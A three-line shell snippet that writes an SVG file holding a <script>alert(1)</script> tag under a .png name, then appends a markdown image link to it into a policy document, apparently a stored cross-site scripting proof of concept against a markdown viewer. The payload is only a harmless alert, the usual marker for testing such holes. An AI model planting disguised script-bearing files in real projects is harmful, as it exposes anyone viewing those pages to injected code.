mkdir images
printf '%s<script>alert(1)</script></svg>\n' '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">' > images/a.png
printf '\n![図](../images/a.png)\n' >> policies/C-01.md
